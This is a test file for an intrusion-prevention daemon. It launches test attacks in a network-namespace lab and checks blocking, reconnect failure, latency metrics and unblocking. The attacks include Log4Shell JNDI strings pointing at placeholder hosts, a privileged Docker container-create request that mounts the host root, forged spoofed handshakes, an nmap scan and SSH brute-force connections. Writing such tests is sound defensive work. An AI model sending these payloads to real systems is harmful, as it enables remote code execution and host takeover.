/**
 * Live protection end to end (issue 6): the real daemon with the shipped databases inside a
 * protected test host; real attacks from an attacker host; assertions on the kernel (nft -j),
 * on sockets and on the EVE event file.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, cpSync, writeFileSync, mkdtempSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { createTestNet, type Host, type TestNet } from './netns.js';
import { startDaemon, ROOT, type DaemonHandle } from './daemon.js';
import { alertsOf, blockedSet, waitFor } from './observe.js';

const CLIENT = join(ROOT, 'test', 'e2e', 'tools', 'tcp-client.mjs');

interface ClientResult {
  connected: boolean;
  error: string | null;
  received: number;
  closed: string | null;
}

async function tcp(from: Host, o: Record<string, unknown>): Promise<ClientResult> {
  const r = await from.exec(process.execPath, [CLIENT, JSON.stringify(o)], { timeoutMs: 20_000 });
  assert.equal(r.code, 0, r.stderr);
  return JSON.parse(r.stdout.trim().split('\n').pop() ?? '{}') as ClientResult;
}

interface Alert {
  src_ip: string;
  dest_port: number;
  alert: { signature_id: number; signature: string; action: string };
  bulwark: { blocked_until?: string; block_skipped?: string; detector?: string; evidence?: string; count: number };
}

function alerts(d: DaemonHandle): Alert[] {
  return alertsOf<Alert>(d);
}

let net: TestNet;
let attacker: Host;
let prot: Host;
let other: Host;
let daemon: DaemonHandle;
let httpServer: ReturnType<Host['spawn']> | undefined;
let existingServer: ReturnType<Host['spawn']> | undefined;
let existingClient: Promise<ClientResult> | undefined;

before(async () => {
  net = await createTestNet(['attacker', 'protected', 'other', 'trusted', 'victim']);
  attacker = net.host('attacker');
  prot = net.host('protected');
  other = net.host('other');
  // A real HTTP server in the protected host: inspected passively (bulwark does not take its port).
  httpServer = prot.spawn(process.execPath, ['-e', "require('http').createServer((q,s)=>{s.end('hello\\n')}).listen(8080,'0.0.0.0')"]);
  // A local service on a database port with an established connection before the daemon starts:
  // protection must reset it at start.
  existingServer = prot.spawn(process.execPath, ['-e', "require('net').createServer((s)=>{s.on('data',()=>{}); s.on('error',()=>{})}).listen(6379,'0.0.0.0')"]);
  await waitFor('local services', async () => ((await prot.exec('ss', ['-Hltn', '( sport = :8080 or sport = :6379 )'])).stdout.trim().split('\n').length >= 2 ? true : undefined));
  existingClient = tcp(other, { host: prot.ip4, port: 6379, payload: 'PING\r\n', hold: 15_000 });
  await waitFor('existing connection', async () => ((await prot.exec('ss', ['-Htn', 'state', 'established', '( sport = :6379 )'])).stdout.trim() !== '' ? true : undefined));
  daemon = await startDaemon(prot, {
    config: {
      protection: { enabled: true }, // local-only hosts are off by default
      interfaces: ['eth0'],
      neverBlock: [net.host('trusted').ip4],
    },
    readyTimeoutMs: 30_000,
  });
  await daemon.waitForLog((e) => e.msg === 'protection enabled', 20_000);
});

after(async () => {
  await daemon.destroy();
  httpServer?.kill();
  existingServer?.kill();
  await net.destroy();
});

test('an existing connection on an intercepted port is reset at start', async () => {
  assert.ok(existingClient);
  const r = await existingClient;
  assert.equal(r.connected, true);
  assert.equal(r.closed, 'reset', `expected the pre-existing connection to be reset, got ${JSON.stringify(r)}`);
  const st = JSON.parse((await daemon.cli(['protection', 'status', '--json'])).stdout) as { connectionsReset: number };
  assert.ok(st.connectionsReset >= 1);
});

test('bulwark listens on database ports no local service uses, and leaves used ones alone', async () => {
  const st = JSON.parse((await daemon.cli(['protection', 'status', '--json'])).stdout) as { enabled: boolean; intercept: { intercepted: number[]; passive: number[] } };
  assert.equal(st.enabled, true);
  assert.ok(st.intercept.intercepted.includes(2375), 'Docker API port intercepted');
  assert.ok(st.intercept.passive.includes(8080), 'HTTP port with a real server is passive');
  assert.ok(st.intercept.passive.includes(6379));
  const ls = await prot.exec('ss', ['-Hltnp', '( sport = :2375 )']);
  assert.match(ls.stdout, /node/);
});

test('benign traffic to the same ports is not blocked and raises no event', async () => {
  const before = alerts(daemon).length;
  const r1 = await tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\nHost: protected\r\nUser-Agent: curl/8.0\r\n\r\n' });
  assert.equal(r1.connected, true);
  assert.ok(r1.received > 0, 'HTTP server answered');
  const r2 = await tcp(attacker, { host: prot.ip4, port: 2375, payload: 'GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n' });
  assert.equal(r2.connected, true);
  await new Promise((r) => setTimeout(r, 500));
  assert.equal(alerts(daemon).length, before);
  assert.deepEqual(await blockedSet(prot), []);
});

test('a never-block attacker is detected but not blocked', async () => {
  const trusted = net.host('trusted');
  await tcp(trusted, { host: prot.ip4, port: 2375, payload: 'POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\r\n{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}' });
  const ev = await waitFor('alert from the trusted host', () => alerts(daemon).find((a) => a.src_ip === trusted.ip4));
  assert.equal(ev.alert.action, 'allowed');
  assert.equal(ev.bulwark.block_skipped, 'never-block');
  assert.ok(!(await blockedSet(prot)).includes(trusted.ip4));
  const again = await tcp(trusted, { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\n\r\n' });
  assert.equal(again.connected, true);
});

test('Log4Shell against a real HTTP server blocks the attacker within 100 ms and the reconnect fails; unblock restores access', async () => {
  const r = await tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\nHost: protected\r\nUser-Agent: ${jndi:ldap://203.0.113.66/a}\r\n\r\n' });
  assert.equal(r.connected, true);
  const ev = await waitFor('Log4Shell alert', () => alerts(daemon).find((a) => a.src_ip === attacker.ip4 && a.alert.signature.includes('Log4Shell')));
  assert.equal(ev.alert.action, 'blocked');
  assert.ok(ev.bulwark.blocked_until !== undefined && Date.parse(ev.bulwark.blocked_until) > Date.now() + 50 * 60_000, 'blocked for about an hour');
  assert.ok((await blockedSet(prot)).includes(attacker.ip4), 'attacker in the kernel set');
  const again = await tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\n\r\n', connectTimeoutMs: 1500 });
  assert.equal(again.connected, false, 'reconnect must fail while blocked');
  // Block latency: detection (packet time) → committed in the kernel.
  const m = await daemon.http('/metrics');
  const le100 = /bulwark_block_latency_seconds_bucket\{le="0\.1"\} (\d+)/.exec(m.body);
  const count = /bulwark_block_latency_seconds_count (\d+)/.exec(m.body);
  assert.ok(le100 && count, 'latency histogram exported');
  assert.equal(le100[1], count[1], 'every block committed within 100 ms of the attack packet');
  const un = await daemon.cli(['unblock', attacker.ip4]);
  assert.equal(un.code, 0, un.stderr);
  const back = await tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\n\r\n' });
  assert.equal(back.connected, true, 'access restored after unblock');
});

/** bulwark_packets_dropped_total for one reason, from the daemon's /metrics. */
async function dropped(reason: string): Promise<number> {
  const m = await daemon.http('/metrics');
  const v = new RegExp(`bulwark_packets_dropped_total\\{reason="${reason}"\\} (\\d+)`).exec(m.body);
  return Number(v?.[1] ?? 0);
}

test('forged handshakes in a live host\'s name never block it (forged SYN/ACK inbound, good or bad checksums); a real attacker still is', async () => {
  await daemon.cli(['unblock', '--all']);
  const victim = net.host('victim'); // V: up, sends nothing of this
  const hMac = (await prot.exec('cat', ['/sys/class/net/eth0/address'])).stdout.trim();
  const spoofedBefore = await dropped('spoofed_source');
  const forge = async (frames: Record<string, unknown>[]): Promise<void> => {
    const tool = join(ROOT, 'test', 'e2e', 'tools', 'forge-frames.ts');
    const r = await attacker.exec(process.execPath, ['--import', 'tsx', tool, JSON.stringify({ frames, gapMs: 2 })], { timeoutMs: 30_000, env: { ...process.env, NODE_PATH: join(ROOT, 'node_modules') } });
    assert.equal(r.code, 0, r.stderr);
    assert.equal((JSON.parse(r.stdout.trim()) as { sent: number }).sent, frames.length);
  };
  const v2h = { srcIp: victim.ip4, dstIp: prot.ip4, dstPort: 8080, dstMac: hMac };
  const h2v = { srcIp: prot.ip4, dstIp: victim.ip4, srcPort: 8080, dstMac: hMac };
  const log4shell = 'GET / HTTP/1.1\r\nHost: protected\r\nUser-Agent: ${jndi:ldap://203.0.113.66/a}\r\n\r\n';
  // SYN V→H, the forged SYN/ACK H→V (arriving inbound at H), the ACK of it, the exploit. Once with
  // bad checksums everywhere (H's kernel drops all of it and never answers), once valid.
  for (const [sport, bad] of [[41000, true], [41001, false]] as const) {
    await forge([
      { ...v2h, srcPort: sport, seq: 1000, flags: 0x02, badChecksum: bad },
      { ...h2v, dstPort: sport, seq: 9000, ack: 1001, flags: 0x12, badChecksum: bad },
      { ...v2h, srcPort: sport, seq: 1001, ack: 9001, flags: 0x10, badChecksum: bad },
      { ...v2h, srcPort: sport, seq: 1001, ack: 9001, flags: 0x18, payload: log4shell, badChecksum: bad },
    ]);
  }
  // A SYN scan in V's name: the scan detector must not take V for a peer that completed a handshake.
  await forge(Array.from({ length: 25 }, (_, i) => ({ ...v2h, srcPort: 42000 + i, dstPort: 1000 + i, seq: 5000, flags: 0x02 })));
  // A real attack (real handshake) from the attacker is blocked: the pipeline works, and it ran
  // after every forged frame above (one capture, in order).
  await tcp(attacker, { host: prot.ip4, port: 8080, payload: log4shell });
  const real = await waitFor('the real attacker blocked', () => alerts(daemon).find((a) => a.src_ip === attacker.ip4 && a.alert.action === 'blocked'));
  assert.ok(real.bulwark.blocked_until !== undefined);
  const set = await blockedSet(prot);
  assert.ok(set.includes(attacker.ip4), 'attacker in the kernel set');
  // The forged handshakes and exploits never block V. The SYN scan in V's name may (issue 14:
  // half-open evidence blocks scanners, bounded by its own per-minute cap), and only as half-open
  // evidence: V never completed a verified handshake, so it is not a verified peer.
  const aboutV = alerts(daemon).filter((a) => a.src_ip === victim.ip4);
  const blockedV = aboutV.filter((a) => a.alert.action === 'blocked' || a.bulwark.blocked_until !== undefined);
  assert.ok(blockedV.every((a) => a.bulwark.evidence === 'half-open'), `an event blocked V on other evidence than half-open: ${JSON.stringify(blockedV)}`);
  assert.ok(!aboutV.some((a) => a.bulwark.detector === undefined && (a.alert.action === 'blocked' || a.bulwark.blocked_until !== undefined)), `a signature alert blocked V: ${JSON.stringify(aboutV)}`);
  if (set.includes(victim.ip4)) assert.ok(blockedV.length > 0, `V in the kernel set without a half-open block event: ${JSON.stringify(set)}`);
  const scan = await waitFor('port scan alert in V\'s name', () => alerts(daemon).find((a) => a.src_ip === victim.ip4 && a.bulwark.detector === 'portscan'));
  assert.equal(scan.bulwark.evidence, 'half-open', 'V is not a verified peer: its scan rests on half-open evidence');
  assert.ok((await dropped('spoofed_source')) >= spoofedBefore + 2, 'both forged SYN/ACKs counted as spoofed');
  await daemon.cli(['unblock', '--all']);
});

test("a blocked attacker's existing connections are severed", async () => {
  await daemon.cli(['unblock', '--all']);
  // An idle connection the attacker opened before attacking: it must be reset, not left half-open.
  const held = tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\n', hold: 8000 });
  await waitFor('held connection', async () => ((await prot.exec('ss', ['-Htn', 'state', 'established', `( sport = :8080 and dst ${attacker.ip4} )`])).stdout.trim() !== '' ? true : undefined));
  await tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET /?x=${jndi:dns://203.0.113.5/a} HTTP/1.1\r\nHost: x\r\n\r\n' });
  const r = await held;
  assert.equal(r.closed, 'reset', `held connection: ${JSON.stringify(r)}`);
  const st = JSON.parse((await daemon.cli(['protection', 'status', '--json'])).stdout) as { attackerConnectionsSevered: number };
  assert.ok(st.attackerConnectionsSevered >= 1);
  await daemon.cli(['unblock', '--all']);
});

test('protection off releases the intercepted ports and stops blocking; on brings both back', async () => {
  await daemon.cli(['unblock', '--all']);
  const off = await daemon.cli(['protection', 'off', '--json']);
  assert.equal(off.code, 0, off.stderr);
  assert.equal((JSON.parse(off.stdout) as { enabled: boolean }).enabled, false);
  assert.equal((await prot.exec('ss', ['-Hltn', '( sport = :2375 )'])).stdout.trim(), '', 'port released');
  const before = alerts(daemon).length;
  await tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET /${jndi:ldap://203.0.113.9/x} HTTP/1.1\r\n\r\n' });
  await new Promise((r) => setTimeout(r, 500));
  assert.equal(alerts(daemon).length, before, 'no inspection while off');
  const on = await daemon.cli(['protection', 'on']);
  assert.equal(on.code, 0, on.stderr);
  assert.match(on.stdout, /protection:\s+enabled/);
  await waitFor('port 2375 listening again', async () => ((await prot.exec('ss', ['-Hltn', '( sport = :2375 )'])).stdout.trim() !== '' ? true : undefined));
  await tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET /${jndi:ldap://203.0.113.9/x} HTTP/1.1\r\n\r\n' });
  await waitFor('alert after protection on', () => alerts(daemon).slice(before).find((a) => a.src_ip === attacker.ip4));
  await daemon.cli(['unblock', '--all']);
});

test('an exploit payload split over many small segments to a port nobody listens on is detected and blocked', async () => {
  await daemon.cli(['unblock', '--all']);
  const payload = 'POST /v1.41/containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\r\n{"Image":"alpine"}';
  // One byte per segment: every content crosses many segment boundaries.
  const r = await tcp(attacker, { host: prot.ip4, port: 2375, payload, segments: payload.length, delayMs: 2 });
  assert.equal(r.connected, true);
  const ev = await waitFor('Docker API alert', () => alerts(daemon).find((a) => a.src_ip === attacker.ip4 && a.alert.signature === 'Intrusion.Docker.API.ContainerCreate'));
  assert.equal(ev.alert.action, 'blocked');
  assert.ok((await blockedSet(prot)).includes(attacker.ip4));
  await daemon.cli(['unblock', '--all']);
});

test('a port scan and an SSH-style brute force are detected', async () => {
  await daemon.cli(['unblock', '--all']);
  const scan = await attacker.exec('nmap', ['-Pn', '-n', '-sT', '-T5', '--max-retries', '0', '-p', '1-100', prot.ip4], { timeoutMs: 60_000 });
  assert.equal(scan.code, 0, scan.stderr);
  const ps = await waitFor('port scan alert', () => alerts(daemon).find((a) => a.src_ip === attacker.ip4 && a.bulwark.detector === 'portscan'));
  assert.equal(ps.alert.action, 'blocked', 'a connect scan completed handshakes: blockable');
  await daemon.cli(['unblock', '--all']);
  for (let i = 0; i < 12; i++) await tcp(attacker, { host: prot.ip4, port: 22, payload: 'SSH-2.0-libssh_0.9.6\r\n', hold: 20 });
  const bf = await waitFor('brute force alert', () => alerts(daemon).find((a) => a.src_ip === attacker.ip4 && a.bulwark.detector === 'bruteforce'));
  assert.equal(bf.alert.action, 'blocked');
  await daemon.cli(['unblock', '--all']);
});

test('10,000 benign connections raise no event', async () => {
  const before = alerts(daemon).length;
  const script = `
    const net = require('net');
    let done = 0, ok = 0, inflight = 0, next = 0;
    const N = 10000, P = 64;
    function one() {
      if (next >= N) return; next++; inflight++;
      const s = net.connect({ host: '${prot.ip4}', port: 8080 }, () => { s.end('GET /ok HTTP/1.1\\r\\nHost: protected\\r\\nConnection: close\\r\\n\\r\\n'); });
      s.on('data', () => {}); s.on('error', () => {});
      s.on('close', (hadErr) => { if (!hadErr) ok++; inflight--; if (++done === N) { console.log(JSON.stringify({ ok })); process.exit(0); } one(); });
    }
    for (let i = 0; i < P; i++) one();`;
  const r = await other.exec(process.execPath, ['-e', script], { timeoutMs: 120_000 });
  assert.equal(r.code, 0, r.stderr);
  const { ok } = JSON.parse(r.stdout) as { ok: number };
  assert.ok(ok > 9_900, `benign connections completed: ${ok}`);
  await new Promise((res) => setTimeout(res, 1000));
  assert.equal(alerts(daemon).length, before, 'no event from benign traffic');
  assert.ok(!(await blockedSet(prot)).includes(other.ip4));
});

test('a database reload that adds a port starts intercepting it without a restart', async () => {
  const dbDir = mkdtempSync(join(tmpdir(), 'bulwark-db-'));
  cpSync(join(ROOT, 'databases'), dbDir, { recursive: true });
  writeFileSync(
    join(dbDir, 'extra.yaml'),
    `database: { name: e2e-extra, version: "1", released: 2026-11-21 }
signatures:
  - id: 9990001
    name: Test.Extra.Port
    description: test-only signature on a new port
    references: []
    severity: high
    category: test
    action: block
    ports: [31337]
    direction: to_server
    match:
      - content: "EXTRA-ATTACK"
`,
  );
  const man = await prot.exec(process.execPath, ['--import', 'tsx', join(ROOT, 'scripts', 'db-manifest.ts'), dbDir], { timeoutMs: 60_000 });
  assert.equal(man.code, 0, man.stderr + man.stdout);
  // Point the running daemon at the new directory through a config reload.
  const cfgFile = daemon.configFile;
  assert.ok(cfgFile);
  const text = readFileSync(cfgFile, 'utf8');
  writeFileSync(cfgFile, `${text}\ndatabases:\n  dir: ${dbDir}\n`);
  const rl = await daemon.cli(['reload']);
  assert.equal(rl.code, 0, rl.stderr);
  await waitFor('port 31337 listening', async () => ((await prot.exec('ss', ['-Hltn', '( sport = :31337 )'])).stdout.trim() !== '' ? true : undefined));
  await tcp(attacker, { host: prot.ip4, port: 31337, payload: 'hello EXTRA-ATTACK' });
  await waitFor('alert on the new port', () => alerts(daemon).find((a) => a.dest_port === 31337));
  await daemon.cli(['unblock', '--all']);
});

test('an attack sent in small segments out of order is reassembled and detected', async () => {
  await daemon.cli(['unblock', '--all']);
  const tool = join(ROOT, 'test', 'e2e', 'tools', 'raw-tcp.ts');
  const payload = 'POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\r\n{"Image":"alpine","HostConfig":{"Privileged":true}}';
  const r = await attacker.exec(process.execPath, ['--import', 'tsx', tool, JSON.stringify({ dst: prot.ip4, port: 2375, payload, segment: 3 })], { timeoutMs: 30_000, env: { ...process.env, NODE_PATH: join(ROOT, 'node_modules') } });
  assert.equal(r.code, 0, r.stderr);
  const res = JSON.parse(r.stdout.trim().split('\n').pop() ?? '{}') as { handshake: boolean; sent: number; acked: number };
  assert.equal(res.handshake, true);
  assert.ok(res.sent > 30, 'many segments');
  assert.equal(res.acked, Buffer.byteLength(payload), 'the protected kernel reassembled every byte');
  const ev = await waitFor('out-of-order attack alert', () => alerts(daemon).find((a) => a.src_ip === attacker.ip4 && a.alert.signature.startsWith('Intrusion.Docker.API')), 10_000);
  assert.equal(ev.alert.action, 'blocked');
  await daemon.cli(['unblock', '--all']);
});

test('SIGKILL leaves blocks in force and a restart picks them up', async () => {
  const b = await daemon.cli(['block', '203.0.113.77', '--for', '2h', '--reason', 'e2e']);
  assert.equal(b.code, 0, b.stderr);
  await daemon.kill();
  assert.ok((await blockedSet(prot)).includes('203.0.113.77'), 'kernel block survives the daemon');
  const d2 = await startDaemon(prot, { config: { protection: { enabled: true }, interfaces: ['eth0'], stateDir: daemon.stateDir }, readyTimeoutMs: 30_000 });
  try {
    const { entries } = JSON.parse((await d2.cli(['blocked', '--json'])).stdout) as { entries: { address: string; expiresInMs: number }[] };
    const e = entries.find((x) => x.address === '203.0.113.77');
    assert.ok(e, 'restored into the new daemon');
    assert.ok(e.expiresInMs > 100 * 60_000 && e.expiresInMs <= 2 * 3_600_000);
  } finally {
    await d2.destroy();
  }
});
